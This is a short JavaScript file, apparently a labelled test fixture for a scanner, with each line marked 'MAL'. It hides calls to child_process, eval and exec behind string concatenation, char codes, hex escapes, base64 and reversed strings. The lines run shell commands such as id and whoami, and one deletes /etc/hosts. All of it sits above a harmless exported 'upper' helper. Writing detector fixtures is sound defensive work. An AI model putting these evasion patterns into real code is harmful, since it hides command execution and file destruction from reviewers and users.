const g = globalThis;
const r = g['req' + 'uire'] || require; // MAL
const m = r('child_' + 'process'); // MAL
m['ex' + 'ec']('id'); // MAL
const name = String.fromCharCode(101, 120, 101, 99, 83, 121, 110, 99); // MAL
m[name]('whoami'); // MAL
const ev = '\x65\x76\x61\x6c';
g[ev]('1 + 1'); // MAL
Reflect.get(g, 'ev' + 'al')('2 + 2'); // MAL
Reflect.apply(m.spawn, m, ['sh', ['-c', 'id']]); // MAL
const cpName = atob('Y2hpbGRfcHJvY2Vzcw==');
require(cpName).execSync('uname -a'); // MAL
const k = 'lave'.split('').reverse().join('');
window[k]('3'); // MAL
const fs = require('f' + 's'); // MAL
fs['unl' + 'inkSync']('/etc/hosts'); // MAL
process['bin' + 'ding']('spawn_sync'); // MAL
module.exports = { upper: (s) => s.toUpperCase() };
